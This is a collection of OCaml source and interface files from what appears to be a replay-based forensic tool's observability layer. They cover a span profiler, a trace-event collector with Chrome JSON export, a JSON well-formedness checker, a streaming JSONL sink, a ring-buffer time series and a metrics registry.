    pn_children = Hashtbl.create 4;
  }

(* The frame stack is four parallel arrays indexed by depth rather than a
   list of records: entering a span writes into preallocated slots, so
   the per-span allocation is only what [Gc.counters] itself boxes.
   Float arrays are unboxed, so storing the counter snapshots is free. *)
type state = {
  clock : unit -> int;
  root : node;
  mutable depth : int;  (* frames in use *)
  mutable f_nodes : node array;
  mutable f_starts : int array;  (* start_ns per frame *)
  mutable f_minors : float array;
  mutable f_majors : float array;
  mutable cur : node;
}

type t = Disabled | Enabled of state

let disabled = Disabled

let default_clock () = int_of_float (Unix.gettimeofday () *. 1e9)

let initial_depth = 64

let create ?(clock = default_clock) () =
  let root = mk_node "" (-1) in
  Enabled
    {
      clock;
      root;
      depth = 0;
      f_nodes = Array.make initial_depth root;
      f_starts = Array.make initial_depth 0;
      f_minors = Array.make initial_depth 0.;
      f_majors = Array.make initial_depth 0.;
      cur = root;
    }

let enabled = function Disabled -> false | Enabled _ -> true

let grow s =
  let n = Array.length s.f_nodes in
  let extend a fill =
    let a' = Array.make (2 * n) fill in
    Array.blit a 0 a' 0 n;
    a'
  in
  s.f_nodes <- extend s.f_nodes s.root;
  s.f_starts <- extend s.f_starts 0;
  s.f_minors <- extend s.f_minors 0.;
  s.f_majors <- extend s.f_majors 0.

(* [Hashtbl.find] raising on a miss keeps the steady state (every span
   name already interned under its parent) allocation-free, unlike
   [find_opt]'s [Some]. *)
let child_of parent name =
  match Hashtbl.find parent.pn_children name with
  | n -> n
  | exception Not_found ->
    let n = mk_node name (parent.pn_depth + 1) in
    Hashtbl.replace parent.pn_children name n;
    parent.pn_order <- n :: parent.pn_order;
    n

let enter t name =
  match t with
  | Disabled -> ()
  | Enabled s ->
    let node = child_of s.cur name in
    let d = s.depth in
    if d = Array.length s.f_nodes then grow s;
    let minor, _, major = Gc.counters () in
    s.f_nodes.(d) <- node;
    s.f_minors.(d) <- minor;
    s.f_majors.(d) <- major;
    s.f_starts.(d) <- s.clock ();
    s.depth <- d + 1;
    s.cur <- node

let exit t =
  match t with
  | Disabled -> ()
  | Enabled s ->
    if s.depth = 0 then ()  (* unbalanced exit: ignore, don't poison the run *)
    else begin
      let d = s.depth - 1 in
      let dt = s.clock () - s.f_starts.(d) in
      let minor, _, major = Gc.counters () in
      let n = s.f_nodes.(d) in
      n.pn_count <- n.pn_count + 1;
      n.pn_total_ns <- n.pn_total_ns + dt;
      n.pn_minor_words <-
        n.pn_minor_words + int_of_float (minor -. s.f_minors.(d));
      n.pn_major_words <-
        n.pn_major_words + int_of_float (major -. s.f_majors.(d));
      s.depth <- d;
      s.cur <- (if d = 0 then s.root else s.f_nodes.(d - 1))
    end

let with_span t name f =
  match t with
  | Disabled -> f ()
  | Enabled _ ->
    enter t name;
    Fun.protect ~finally:(fun () -> exit t) f

(* -- reading the tree -- *)

type span = {
  sp_path : string;  (* "replay/vm.step" *)
  sp_name : string;
  sp_depth : int;
  sp_count : int;
  sp_total_ns : int;
  sp_self_ns : int;
  sp_minor_words : int;
  sp_major_words : int;
  sp_self_minor_words : int;
}

let children_in_order n = List.rev n.pn_order

let span_of ~path n =
  let child_total, child_minor =
    List.fold_left
      (fun (t, m) c -> (t + c.pn_total_ns, m + c.pn_minor_words))
      (0, 0) n.pn_order
  in
  {
    sp_path = path;
    sp_name = n.pn_name;
    sp_depth = n.pn_depth;
    sp_count = n.pn_count;
    sp_total_ns = n.pn_total_ns;
    sp_self_ns = max 0 (n.pn_total_ns - child_total);
    sp_minor_words = n.pn_minor_words;
    sp_major_words = n.pn_major_words;
    sp_self_minor_words = max 0 (n.pn_minor_words - child_minor);
  }

(* Preorder, children in first-entered order: deterministic for a
   deterministic workload regardless of what the clock reads. *)
let spans = function
  | Disabled -> []
  | Enabled s ->
    let rec walk prefix n acc =
      List.fold_left
        (fun acc c ->
          let path = if prefix = "" then c.pn_name else prefix ^ "/" ^ c.pn_name in
          walk path c (span_of ~path c :: acc))
        acc (children_in_order n)
    in
    List.rev (walk "" s.root [])

(* Inclusive time of the top-level spans: the denominator for coverage. *)
let total_ns = function
  | Disabled -> 0
  | Enabled s -> List.fold_left (fun acc c -> acc + c.pn_total_ns) 0 s.root.pn_order

(* -- merging -- *)

(* Fold [src]'s tree into [into], adding counts, times and allocation per
   matching path; paths only in [src] are created in [src]'s own child
   order.  Addition is commutative and associative, so per-worker
   profiles merge to the same tree whatever the completion order —
   rendering sorts nothing away, it just inherits determinism from the
   merge order being the (deterministic) submission order. *)
let merge ~into src =
  match (into, src) with
  | Disabled, _ | _, Disabled -> ()
  | Enabled into_s, Enabled src_s ->
    let rec fold dst src =
      List.iter
        (fun c ->
          let d = child_of dst c.pn_name in
          d.pn_count <- d.pn_count + c.pn_count;
          d.pn_total_ns <- d.pn_total_ns + c.pn_total_ns;
          d.pn_minor_words <- d.pn_minor_words + c.pn_minor_words;
          d.pn_major_words <- d.pn_major_words + c.pn_major_words;
          fold d c)
        (children_in_order src)
    in
    fold into_s.root src_s.root

(* -- rendering -- *)

let ms ns = float ns /. 1e6

(* The call tree: indented, first-entered order. *)
let pp_tree ppf t =
  Fmt.pf ppf "%-44s %10s %12s %12s %12s@." "span" "count" "total-ms" "self-ms"
    "minor-w";
  List.iter
    (fun sp ->
      Fmt.pf ppf "%-44s %10d %12.3f %12.3f %12d@."
        (String.make (2 * sp.sp_depth) ' ' ^ sp.sp_name)
        sp.sp_count (ms sp.sp_total_ns) (ms sp.sp_self_ns) sp.sp_minor_words)
    (spans t)

(* The hotspot table: flat, sorted by self time (ties broken by path so
   equal-cost spans — every span under a fake constant clock — render in
   a stable order). *)
let pp_hotspots ?(top = 20) ppf t =
  let all =
    List.sort
      (fun a b ->
        match compare b.sp_self_ns a.sp_self_ns with
        | 0 -> compare a.sp_path b.sp_path
        | c -> c)
      (spans t)
  in
  let total = total_ns t in
  Fmt.pf ppf "%-52s %10s %12s %12s %7s@." "span" "count" "self-ms" "total-ms"
    "self%";
  let rec take n = function
    | sp :: rest when n > 0 ->
      Fmt.pf ppf "%-52s %10d %12.3f %12.3f %6.1f%%@." sp.sp_path sp.sp_count
        (ms sp.sp_self_ns) (ms sp.sp_total_ns)
        (if total = 0 then 0. else 100. *. float sp.sp_self_ns /. float total);
      take (n - 1) rest
    | _ -> ()
  in
  take top all

let to_json t =
  let span_json sp =
    Printf.sprintf
      {|{"path":"%s","count":%d,"total_ns":%d,"self_ns":%d,"minor_words":%d,"major_words":%d}|}
      (Json.escape sp.sp_path) sp.sp_count sp.sp_total_ns sp.sp_self_ns
      sp.sp_minor_words sp.sp_major_words
  in
  Printf.sprintf {|{"profile":{"total_ns":%d,"spans":[%s]}}|} (total_ns t)
    (String.concat "," (List.map span_json (spans t)))
