(* Structured trace events.

   Instrumented layers (engine, detector, syscall dispatch, the block
   batcher) emit typed events through a sink.  The disabled sink is a
   constant constructor, so the hot-path discipline is

     if Trace.enabled sink then Trace.emit sink ~cat ~name ~pid args

   — one branch and no allocation when tracing is off.  The collector
   sink buffers events (bounded; overflow is counted, not silently
   dropped) and exports them in Chrome's trace_event JSON format, so a
   whole replay can be opened in a trace viewer (chrome://tracing,
   Perfetto).

   Timestamps come from a pluggable clock — the FAROS plugin points it at
   the kernel tick counter, so event times are instruction counts, the
   only meaningful time base a deterministic replay has. *)

type arg = Int of int | Str of string | Bool of bool

type event = {
  ev_name : string;
  ev_cat : string;  (* "engine" | "detector" | "syscall" | "block" | "shadow" *)
  ev_ts : int;  (* kernel tick at emission *)
  ev_pid : int;  (* process domain: guest pid/asid, or farm worker index *)
  ev_tid : int;  (* thread lane within the domain; defaults to ev_pid *)
  ev_args : (string * arg) list;
}

type collector = {
  mutable clock : unit -> int;
  mutable rev_events : event list;  (* newest first *)
  mutable count : int;
  limit : int;
  mutable dropped : int;
}

type t = Null | Collector of collector

let null = Null

let collector ?(limit = 1_000_000) () =
  Collector
    { clock = (fun () -> 0); rev_events = []; count = 0; limit; dropped = 0 }

let enabled = function Null -> false | Collector _ -> true

let set_clock t clock =
  match t with Null -> () | Collector c -> c.clock <- clock

(* Buffer a pre-built event verbatim (same bounded-drop discipline as
   [emit]); this is how a campaign folds per-job collectors into one
   fleet-wide trace, rewriting pid/tid to worker/guest lanes. *)
let add_event t e =
  match t with
  | Null -> ()
  | Collector c ->
    if c.count >= c.limit then c.dropped <- c.dropped + 1
    else begin
      c.rev_events <- e :: c.rev_events;
      c.count <- c.count + 1
    end

let emit t ?tid ?ts ~cat ~name ~pid args =
  match t with
  | Null -> ()
  | Collector c ->
    add_event t
      {
        ev_name = name;
        ev_cat = cat;
        ev_ts = (match ts with Some ts -> ts | None -> c.clock ());
        ev_pid = pid;
        ev_tid = (match tid with Some tid -> tid | None -> pid);
        ev_args = args;
      }

let events = function
  | Null -> []
  | Collector c -> List.rev c.rev_events

let count = function Null -> 0 | Collector c -> c.count
let dropped = function Null -> 0 | Collector c -> c.dropped

(* Events of one category, oldest first. *)
let by_category t cat = List.filter (fun e -> e.ev_cat = cat) (events t)

(* -- Chrome trace_event export -- *)

let arg_json = function
  | Int i -> string_of_int i
  | Str s -> Printf.sprintf {|"%s"|} (Json.escape s)
  | Bool b -> if b then "true" else "false"

(* One instant event per emission; [ts] is the kernel tick, which the
   viewer renders as microseconds — a tick is the natural time unit of a
   deterministic replay.  pid and tid are distinct fields: a campaign
   trace puts the worker index in pid and the guest pid in tid, so each
   worker renders as its own process lane in chrome://tracing with
   per-guest thread rows inside it. *)
let event_json e =
  let args =
    e.ev_args
    |> List.map (fun (k, v) ->
           Printf.sprintf {|"%s":%s|} (Json.escape k) (arg_json v))
    |> String.concat ","
  in
  Printf.sprintf
    {|{"name":"%s","cat":"%s","ph":"i","s":"g","ts":%d,"pid":%d,"tid":%d,"args":{%s}}|}
    (Json.escape e.ev_name) (Json.escape e.ev_cat) e.ev_ts e.ev_pid e.ev_tid
    args

let to_chrome_json t =
  Printf.sprintf
    {|{"traceEvents":[%s],"displayTimeUnit":"ms","otherData":{"events":%d,"dropped":%d}}|}
    (String.concat "," (List.map event_json (events t)))
    (count t) (dropped t)
