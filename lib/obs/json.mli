(** Minimal JSON support for the exporters — the repo avoids external
    JSON dependencies. *)

val escape : string -> string
(** Escape a string for inclusion inside JSON double quotes. *)

val well_formed : string -> (unit, string) result
(** Validate that a string is one complete, well-formed JSON value.  A
    checker, not a parser: it builds nothing. *)

val well_formed_lines : string -> (int, int * string) result
(** Validate a JSONL document: every non-empty line must be one
    well-formed JSON value.  [Ok n] is the number of validated lines;
    [Error (lineno, msg)] names the first bad line (1-based). *)
