(* Minimal JSON support shared by the exporters.

   The repo deliberately avoids external JSON dependencies: exporters
   build documents with printf, and [well_formed] is the tiny
   recursive-descent checker the tests (and `faros check-json`) use to
   assert those documents actually parse. *)

let escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | c when Char.code c < 0x20 ->
        Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

exception Bad of string

(* A well-formedness checker, not a parser: it validates structure and
   consumes the input without building any value. *)
let well_formed s =
  let n = String.length s in
  let pos = ref 0 in
  let fail msg = raise (Bad (Printf.sprintf "%s at offset %d" msg !pos)) in
  let peek () = if !pos < n then Some s.[!pos] else None in
  let advance () = pos := !pos + 1 in
  let skip_ws () =
    while
      !pos < n && (s.[!pos] = ' ' || s.[!pos] = '\t' || s.[!pos] = '\n' || s.[!pos] = '\r')
    do
      advance ()
    done
  in
  let expect c =
    match peek () with
    | Some x when x = c -> advance ()
    | _ -> fail (Printf.sprintf "expected %C" c)
  in
  let literal word =
    if !pos + String.length word <= n && String.sub s !pos (String.length word) = word
    then pos := !pos + String.length word
    else fail (Printf.sprintf "expected %S" word)
  in
  let string_lit () =
    expect '"';
    let closed = ref false in
    while not !closed do
      match peek () with
      | None -> fail "unterminated string"
      | Some '"' ->
        advance ();
        closed := true
      | Some '\\' -> (
        advance ();
        match peek () with
        | Some ('"' | '\\' | '/' | 'b' | 'f' | 'n' | 'r' | 't') -> advance ()
        | Some 'u' ->
          advance ();
          for _ = 1 to 4 do
            match peek () with
            | Some ('0' .. '9' | 'a' .. 'f' | 'A' .. 'F') -> advance ()
            | _ -> fail "bad \\u escape"
          done
        | _ -> fail "bad escape")
      | Some c when Char.code c < 0x20 -> fail "control character in string"
      | Some _ -> advance ()
    done
  in
  let number () =
    (match peek () with Some '-' -> advance () | _ -> ());
    let digits () =
      let start = !pos in
      while (match peek () with Some '0' .. '9' -> true | _ -> false) do
        advance ()
      done;
      if !pos = start then fail "expected digit"
    in
    (* integer part: a lone 0, or a nonzero-led digit run (no leading 0s) *)
    (match peek () with
    | Some '0' -> (
      advance ();
      match peek () with
      | Some '0' .. '9' -> fail "leading zero"
      | _ -> ())
    | Some '1' .. '9' -> digits ()
    | _ -> fail "expected digit");
    (match peek () with
    | Some '.' ->
      advance ();
      digits ()
    | _ -> ());
    match peek () with
    | Some ('e' | 'E') ->
      advance ();
      (match peek () with Some ('+' | '-') -> advance () | _ -> ());
      digits ()
    | _ -> ()
  in
  let rec value () =
    skip_ws ();
    match peek () with
    | Some '{' ->
      advance ();
      skip_ws ();
      if peek () = Some '}' then advance ()
      else begin
        let more = ref true in
        while !more do
          skip_ws ();
          string_lit ();
          skip_ws ();
          expect ':';
          value ();
          skip_ws ();
          match peek () with
          | Some ',' -> advance ()
          | Some '}' ->
            advance ();
            more := false
          | _ -> fail "expected ',' or '}'"
        done
      end
    | Some '[' ->
      advance ();
      skip_ws ();
      if peek () = Some ']' then advance ()
      else begin
        let more = ref true in
        while !more do
          value ();
          skip_ws ();
          match peek () with
          | Some ',' -> advance ()
          | Some ']' ->
            advance ();
            more := false
          | _ -> fail "expected ',' or ']'"
        done
      end
    | Some '"' -> string_lit ()
    | Some 't' -> literal "true"
    | Some 'f' -> literal "false"
    | Some 'n' -> literal "null"
    | Some ('-' | '0' .. '9') -> number ()
    | Some c -> fail (Printf.sprintf "unexpected %C" c)
    | None -> fail "unexpected end of input"
  in
  match
    value ();
    skip_ws ()
  with
  | () when !pos = n -> Ok ()
  | () -> Error (Printf.sprintf "trailing garbage at offset %d" !pos)
  | exception Bad msg -> Error msg

(* JSONL: every non-empty line must be a well-formed JSON value.
   Returns the number of validated lines, or the first offending line
   (1-based) with its error. *)
let well_formed_lines s =
  let lines = String.split_on_char '\n' s in
  let rec go lineno ok = function
    | [] -> Ok ok
    | line :: rest ->
      if String.trim line = "" then go (lineno + 1) ok rest
      else (
        match well_formed line with
        | Ok () -> go (lineno + 1) (ok + 1) rest
        | Error msg -> Error (lineno, msg))
  in
  go 1 0 lines
