(* Unified streaming JSONL sink.

   One append-only channel that every observability producer — metrics,
   trace, series, profiler, farm, graph — writes through, so a whole
   campaign lands in a single stream a fleet-side consumer can tail.
   Each line is one self-describing JSON object carrying a schema
   version ("v") and a type tag ("type"); the six event types are

     metric_snapshot   a whole registry, rendered once per source
     trace_event       one structured trace event (worker/guest lanes)
     series_point      one sampled time-series row
     profile_span      one aggregated profiler span
     job_lifecycle     submit/start/finish of one farm job
     graph_flag        per-sample attack-graph summary at a flag site
     graph_segment     begin/end marker of one graph segment flush
     graph_node        one spilled graph node row (or attribute patch)
     graph_edge        one spilled, coalesced graph edge row

   The null sink is a constant constructor — emission points cost one
   branch and allocate nothing — and the buffering sink is bounded with
   an explicit drop counter, so loss is visible, never silent.  The
   channel sink streams every line straight to an [out_channel] and
   retains nothing, which is what makes bounded-memory graph spilling
   actually bounded.  Lines are validated downstream by the same
   [Json.well_formed] checker the tests use (`faros check-json
   --jsonl`). *)

let schema_version = 1

type buffer = {
  mutable rev_lines : string list;  (* newest first *)
  mutable count : int;
  limit : int;
  mutable dropped : int;
}

type channel = { ch_oc : out_channel; mutable ch_count : int }

type t = Null | Buffer of buffer | Channel of channel

let null = Null

let create ?(limit = 1_000_000) () =
  Buffer { rev_lines = []; count = 0; limit; dropped = 0 }

let channel oc = Channel { ch_oc = oc; ch_count = 0 }

let enabled = function Null -> false | Buffer _ | Channel _ -> true
let events = function Null -> 0 | Buffer b -> b.count | Channel c -> c.ch_count
let dropped = function Null | Channel _ -> 0 | Buffer b -> b.dropped

let lines = function Null | Channel _ -> [] | Buffer b -> List.rev b.rev_lines

let contents t =
  match lines t with [] -> "" | ls -> String.concat "\n" ls ^ "\n"

let push t line =
  match t with
  | Null -> ()
  | Buffer b ->
    if b.count >= b.limit then b.dropped <- b.dropped + 1
    else begin
      b.rev_lines <- line :: b.rev_lines;
      b.count <- b.count + 1
    end
  | Channel c ->
    output_string c.ch_oc line;
    output_char c.ch_oc '\n';
    c.ch_count <- c.ch_count + 1

let line t typ body =
  match t with
  | Null -> ()
  | Buffer _ | Channel _ ->
    push t
      (Printf.sprintf {|{"v":%d,"type":"%s",%s}|} schema_version typ body)

(* -- typed emitters -- *)

(* [Metrics.to_json] renders {"metrics":[...]} — splice the array in. *)
let metric_snapshot t ~source metrics =
  if enabled t then
    line t "metric_snapshot"
      (Printf.sprintf {|"source":"%s",%s|} (Json.escape source)
         (let j = Metrics.to_json metrics in
          String.sub j 1 (String.length j - 2)))

let trace_event t ?sample (e : Trace.event) =
  if enabled t then begin
    let args =
      e.Trace.ev_args
      |> List.map (fun (k, v) ->
             Printf.sprintf {|"%s":%s|} (Json.escape k) (Trace.arg_json v))
      |> String.concat ","
    in
    let sample =
      match sample with
      | Some s -> Printf.sprintf {|"sample":"%s",|} (Json.escape s)
      | None -> ""
    in
    line t "trace_event"
      (Printf.sprintf
         {|%s"name":"%s","cat":"%s","ts":%d,"pid":%d,"tid":%d,"args":{%s}|}
         sample
         (Json.escape e.Trace.ev_name)
         (Json.escape e.Trace.ev_cat)
         e.Trace.ev_ts e.Trace.ev_pid e.Trace.ev_tid args)
  end

let series_point t ~sample ~columns ~row =
  if enabled t then begin
    let n = min (List.length columns) (Array.length row) in
    let fields =
      List.filteri (fun i _ -> i < n) columns
      |> List.mapi (fun i c ->
             Printf.sprintf {|"%s":%d|} (Json.escape c) row.(i))
      |> String.concat ","
    in
    line t "series_point"
      (Printf.sprintf {|"sample":"%s",%s|} (Json.escape sample) fields)
  end

let profile_span t ~source (sp : Profile.span) =
  if enabled t then
    line t "profile_span"
      (Printf.sprintf
         {|"source":"%s","path":"%s","count":%d,"total_ns":%d,"self_ns":%d,"minor_words":%d,"major_words":%d|}
         (Json.escape source)
         (Json.escape sp.Profile.sp_path)
         sp.Profile.sp_count sp.Profile.sp_total_ns sp.Profile.sp_self_ns
         sp.Profile.sp_minor_words sp.Profile.sp_major_words)

let job_lifecycle t ~job ~worker ~event ?verdict ?wall_s () =
  if enabled t then begin
    let verdict =
      match verdict with
      | Some v -> Printf.sprintf {|,"verdict":"%s"|} (Json.escape v)
      | None -> ""
    in
    let wall =
      match wall_s with
      | Some w -> Printf.sprintf {|,"wall_s":%.6f|} w
      | None -> ""
    in
    line t "job_lifecycle"
      (Printf.sprintf {|"job":"%s","worker":%d,"event":"%s"%s%s|}
         (Json.escape job) worker (Json.escape event) verdict wall)
  end

let graph_flag t ~sample ~flag_sites ~nodes ~edges ~slice_nodes ~slice_origins
    ~netflow_origin =
  if enabled t then
    line t "graph_flag"
      (Printf.sprintf
         {|"sample":"%s","flag_sites":%d,"nodes":%d,"edges":%d,"slice_nodes":%d,"slice_origins":%d,"netflow_origin":%b|}
         (Json.escape sample) flag_sites nodes edges slice_nodes slice_origins
         netflow_origin)

(* -- graph segment rows --------------------------------------------------

   The streaming forensic store's on-disk format (lib/query).  Every row
   carries the producing run id and a per-run monotone sequence number:
   the (run, seq) pair is the idempotence key a store deduplicates
   re-ingested segments by.  Node rows come in two shapes — full rows
   (ident + kind + fields, emitted when a live node is spilled) and patch
   rows (ord + a field subset, emitted when an already-spilled node's
   attributes changed after retirement). *)

let graph_segment t ~run ~seq ~event ~nodes ~edges =
  if enabled t then
    line t "graph_segment"
      (Printf.sprintf {|"run":"%s","seq":%d,"event":"%s","nodes":%d,"edges":%d|}
         (Json.escape run) seq (Json.escape event) nodes edges)

let graph_node t ~run ~seq ~ord ?ident ?kind ~fields () =
  if enabled t then begin
    let head =
      match (ident, kind) with
      | Some ident, Some kind ->
        Printf.sprintf {|"ord":%d,"ident":"%s","kind":"%s"|} ord
          (Json.escape ident) (Json.escape kind)
      | Some ident, None ->
        Printf.sprintf {|"ord":%d,"ident":"%s"|} ord (Json.escape ident)
      | None, Some kind ->
        Printf.sprintf {|"ord":%d,"kind":"%s"|} ord (Json.escape kind)
      | None, None -> Printf.sprintf {|"ord":%d|} ord
    in
    let body = if fields = "" then head else head ^ "," ^ fields in
    line t "graph_node"
      (Printf.sprintf {|"run":"%s","seq":%d,%s|} (Json.escape run) seq body)
  end

let graph_edge t ~run ~seq ~eord ~src ~dst ~kind ~tick ~last_tick ~count ~bytes =
  if enabled t then
    line t "graph_edge"
      (Printf.sprintf
         {|"run":"%s","seq":%d,"eord":%d,"src":%d,"dst":%d,"kind":"%s","tick":%d,"last_tick":%d,"count":%d,"bytes":%d|}
         (Json.escape run) seq eord src dst (Json.escape kind) tick last_tick
         count bytes)

let write_file t path =
  match t with
  | Channel c -> flush c.ch_oc
  | Null | Buffer _ ->
    let oc = open_out path in
    output_string oc (contents t);
    close_out oc
