(* Tick-sampled time series.

   A fixed-capacity ring buffer of integer rows, one row per sample, all
   rows sharing the same column set.  When the buffer is full the oldest
   rows are overwritten — a long replay keeps a bounded, recent window
   plus the total count of samples ever taken.  Rows are copied on
   [sample], so callers may reuse a scratch array. *)

type t = {
  columns : string array;
  slots : int array option array;  (* capacity ring slots *)
  mutable total : int;  (* samples ever taken, including overwritten *)
}

let create ~capacity ~columns =
  if capacity <= 0 then invalid_arg "Series.create: capacity must be positive";
  if columns = [] then invalid_arg "Series.create: no columns";
  { columns = Array.of_list columns; slots = Array.make capacity None; total = 0 }

let columns t = Array.to_list t.columns
let capacity t = Array.length t.slots
let total t = t.total
let length t = min t.total (capacity t)

let sample t row =
  if Array.length row <> Array.length t.columns then
    invalid_arg "Series.sample: row arity does not match columns";
  t.slots.(t.total mod capacity t) <- Some (Array.copy row);
  t.total <- t.total + 1

(* The [i]-th oldest retained row (0 = oldest still in the buffer). *)
let get t i =
  if i < 0 || i >= length t then invalid_arg "Series.get: out of range";
  let oldest = max 0 (t.total - capacity t) in
  match t.slots.((oldest + i) mod capacity t) with
  | Some row -> Array.copy row
  | None -> assert false

let rows t = List.init (length t) (get t)

let last t = if length t = 0 then None else Some (get t (length t - 1))

(* Values of one column, oldest retained first. *)
let column t name =
  let idx =
    let found = ref (-1) in
    Array.iteri (fun i c -> if c = name then found := i) t.columns;
    if !found < 0 then invalid_arg ("Series.column: no column " ^ name);
    !found
  in
  List.map (fun row -> row.(idx)) (rows t)

(* -- export -- *)

let to_csv t =
  let buf = Buffer.create 1024 in
  Buffer.add_string buf (String.concat "," (Array.to_list t.columns));
  Buffer.add_char buf '\n';
  List.iter
    (fun row ->
      Buffer.add_string buf
        (String.concat "," (List.map string_of_int (Array.to_list row)));
      Buffer.add_char buf '\n')
    (rows t);
  Buffer.contents buf

let to_json t =
  let cols =
    Array.to_list t.columns
    |> List.map (fun c -> Printf.sprintf {|"%s"|} (Json.escape c))
    |> String.concat ","
  in
  let row_json row =
    "["
    ^ String.concat "," (List.map string_of_int (Array.to_list row))
    ^ "]"
  in
  Printf.sprintf {|{"columns":[%s],"total_samples":%d,"rows":[%s]}|} cols t.total
    (String.concat "," (List.map row_json (rows t)))
