(** The metrics registry: named counters, gauges and log2-bucketed
    histograms.

    The hot path — {!incr}, {!add}, {!set}, {!observe} — is a mutable-int
    write into an already-registered metric: O(1), no allocation, no name
    lookup.  Registration ({!counter} / {!gauge} / {!histogram}) interns
    by name and is idempotent; asking for an existing name with a
    different kind raises [Invalid_argument].

    Rendering walks the registry in sorted name order, so output is
    deterministic regardless of registration order. *)

type counter
type gauge
type histogram

type metric =
  | Counter of counter
  | Gauge of gauge
  | Histogram of histogram

type t

val create : unit -> t

val counter : t -> string -> counter
val gauge : t -> string -> gauge
val histogram : t -> string -> histogram

(** {2 Hot path} *)

val incr : counter -> unit
val add : counter -> int -> unit
val set : gauge -> int -> unit

val observe : histogram -> int -> unit
(** Record one observation.  Bucket 0 counts values [<= 0]; bucket [k]
    counts values in [[2^(k-1), 2^k)]. *)

(** {2 Reading} *)

val counter_value : counter -> int
val gauge_value : gauge -> int
val histogram_count : histogram -> int
val histogram_sum : histogram -> int

val histogram_bucket_list : histogram -> (int * int * int) list
(** Nonzero buckets as [(lo, hi, count)], [hi] exclusive, ascending; the
    [<= 0] bucket reports [lo = min_int]. *)

val fold : t -> ('a -> string -> metric -> 'a) -> 'a -> 'a
(** Fold over all metrics in sorted name order. *)

val merge : into:t -> t -> unit
(** [merge ~into src] folds [src] into [into] by name: counters and
    histogram buckets add; gauges add too (a merged gauge reads as a
    total across the merged registries).  Merging is commutative, so a
    set of per-worker registries merges to the same result in any order.
    Raises [Invalid_argument] if a name has different kinds in the two
    registries. *)

val pp_table : Format.formatter -> t -> unit
(** The `faros stats` table: one sorted line per metric. *)

val to_json : t -> string
