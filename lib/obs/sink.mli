(** Unified streaming JSONL sink.

    One append-only channel all observability producers share: each line
    is a self-describing JSON object with a schema version ["v"] and a
    ["type"] tag drawn from nine event types ([metric_snapshot],
    [trace_event], [series_point], [profile_span], [job_lifecycle],
    [graph_flag], and the graph segment rows [graph_segment],
    [graph_node], [graph_edge]).  {!null} costs one branch per emission;
    the buffering sink is bounded with an explicit drop counter — loss is
    counted, never silent; the {!channel} sink streams each line straight
    to an [out_channel] and retains nothing. *)

type t

val schema_version : int

val null : t
(** The disabled sink: every emitter is a no-op. *)

val create : ?limit:int -> unit -> t
(** A buffering sink holding at most [limit] lines (default 1e6). *)

val channel : out_channel -> t
(** A streaming sink: each line goes straight to the channel (with a
    trailing newline) and is not retained — {!lines} and {!contents}
    return nothing.  The caller owns the channel (and closes it). *)

val enabled : t -> bool

val events : t -> int
(** Lines buffered (or streamed) so far. *)

val dropped : t -> int
(** Lines rejected because the buffer was full. *)

val lines : t -> string list
(** Buffered lines, oldest first; [[]] for a channel sink. *)

val contents : t -> string
(** The whole stream, newline-terminated; [""] when empty or channel. *)

val write_file : t -> string -> unit
(** Write the buffered stream to [path]; for a channel sink this just
    flushes the underlying channel. *)

(** {2 Typed emitters} — each appends exactly one line. *)

val metric_snapshot : t -> source:string -> Metrics.t -> unit
(** A whole registry, sorted by name as [Metrics.to_json] renders it. *)

val trace_event : t -> ?sample:string -> Trace.event -> unit

val series_point :
  t -> sample:string -> columns:string list -> row:int array -> unit

val profile_span : t -> source:string -> Profile.span -> unit

val job_lifecycle :
  t ->
  job:string ->
  worker:int ->
  event:string ->
  ?verdict:string ->
  ?wall_s:float ->
  unit ->
  unit
(** [event] is ["submit"], ["start"] or ["finish"]; [verdict] and
    [wall_s] accompany ["finish"]. *)

val graph_flag :
  t ->
  sample:string ->
  flag_sites:int ->
  nodes:int ->
  edges:int ->
  slice_nodes:int ->
  slice_origins:int ->
  netflow_origin:bool ->
  unit

(** {2 Graph segment rows} — the streaming forensic store's on-disk
    format ([lib/query]).  Every row carries the producing run id and a
    per-run monotone sequence number; the (run, seq) pair is the
    idempotence key stores deduplicate re-ingested segments by. *)

val graph_segment :
  t -> run:string -> seq:int -> event:string -> nodes:int -> edges:int -> unit
(** Segment boundary marker; [event] is ["begin"], ["end"] or ["final"],
    with the counts spilled in the segment just closed. *)

val graph_node :
  t ->
  run:string ->
  seq:int ->
  ord:int ->
  ?ident:string ->
  ?kind:string ->
  fields:string ->
  unit ->
  unit
(** One node row.  Full rows carry [ident] and [kind] plus the
    kind-specific [fields] fragment; patch rows (attribute refinements to
    an already-spilled node) carry just [ord] and the changed fields. *)

val graph_edge :
  t ->
  run:string ->
  seq:int ->
  eord:int ->
  src:int ->
  dst:int ->
  kind:string ->
  tick:int ->
  last_tick:int ->
  count:int ->
  bytes:int ->
  unit
(** One coalesced edge row; [src]/[dst] are node ordinals, [eord] the
    writer-local edge creation ordinal (merge on minimum recovers the
    resident insertion order). *)
