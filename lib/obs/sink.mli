(** Unified streaming JSONL sink.

    One append-only channel all observability producers share: each line
    is a self-describing JSON object with a schema version ["v"] and a
    ["type"] tag drawn from six event types ([metric_snapshot],
    [trace_event], [series_point], [profile_span], [job_lifecycle],
    [graph_flag]).  {!null} costs one branch per emission; the buffering
    sink is bounded with an explicit drop counter — loss is counted,
    never silent. *)

type t

val schema_version : int

val null : t
(** The disabled sink: every emitter is a no-op. *)

val create : ?limit:int -> unit -> t
(** A buffering sink holding at most [limit] lines (default 1e6). *)

val enabled : t -> bool

val events : t -> int
(** Lines buffered so far. *)

val dropped : t -> int
(** Lines rejected because the buffer was full. *)

val lines : t -> string list
(** Buffered lines, oldest first. *)

val contents : t -> string
(** The whole stream, newline-terminated; [""] when empty. *)

val write_file : t -> string -> unit

(** {2 Typed emitters} — each appends exactly one line. *)

val metric_snapshot : t -> source:string -> Metrics.t -> unit
(** A whole registry, sorted by name as [Metrics.to_json] renders it. *)

val trace_event : t -> ?sample:string -> Trace.event -> unit

val series_point :
  t -> sample:string -> columns:string list -> row:int array -> unit

val profile_span : t -> source:string -> Profile.span -> unit

val job_lifecycle :
  t ->
  job:string ->
  worker:int ->
  event:string ->
  ?verdict:string ->
  ?wall_s:float ->
  unit ->
  unit
(** [event] is ["submit"], ["start"] or ["finish"]; [verdict] and
    [wall_s] accompany ["finish"]. *)

val graph_flag :
  t ->
  sample:string ->
  flag_sites:int ->
  nodes:int ->
